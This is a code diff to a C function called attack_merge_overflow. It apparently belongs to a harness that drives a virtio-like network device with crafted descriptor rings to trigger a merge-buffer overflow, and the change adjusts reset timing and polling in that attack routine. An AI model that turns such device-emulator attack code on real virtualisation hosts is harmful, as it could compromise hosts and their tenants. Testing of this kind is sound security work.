@@ -360,6 +360,10 @@ static void attack_merge_overflow(void)
 		recover("merge_overflow", BASE_F);
 		return;
 	}
+	/* Quiet first: a late reply to a retried ARP request would land in
+	 * the rings below (held by the reset device, then dropped). */
+	wr(STATUS, 0);
+	sleep_ms(2000);
 	dev_up(f, NUM);
 	set_desc(&g.rx, 0, g.rxbuf[0].pa, HDR, D_WRITE, 0);
 	set_desc(&g.rx, 1, g.rxbuf[1].pa, 42, D_WRITE, 0);
@@ -405,22 +409,24 @@ static void attack_merge_overflow(void)
 	set_desc(&g.tx, 0, g.txbuf[0].pa, HDR + 42 + PAYLOAD, 0, 0);
 	post(&g.tx, 0);
 	notify(TXQ);
-	/* The device writes our avail idx while it fills the chains: wait
-	 * for the echo to start that, then for the writes to stop. */
+	/* The device writes our avail idx while it fills the chains, all in
+	 * one go: wait for the echo to start that, then for the writes to
+	 * stop, and reset at once (with idx 127 and the device back at 0,
+	 * another frame would find the ring jumped). */
 	uint16_t last = NUM;
-	for (unsigned t = 0, still = 0; t < 5000 && still < 300; t++) {
+	for (unsigned t = 0, still = 0; t < 5000 && still < 50; t++) {
 		uint16_t now = __atomic_load_n((uint16_t *)(g.rx.avail.va + 2),
 					       __ATOMIC_RELAXED);
 		still = now != NUM && now == last ? still + 1 : 0;
 		last = now;
 		sleep_ms(1);
 	}
+	wr(STATUS, 0);
 	char saw[96];
 	snprintf(saw, sizeof(saw), "tx_used=%u rx_used=%u avail_idx=%u",
 		 used_idx(&g.tx), used_idx(&g.rx),
 		 __atomic_load_n((uint16_t *)(g.rx.avail.va + 2),
 				 __ATOMIC_RELAXED));
-	wr(STATUS, 0);
 	report("merge_overflow", saw);
 	recover("merge_overflow", BASE_F);
 }
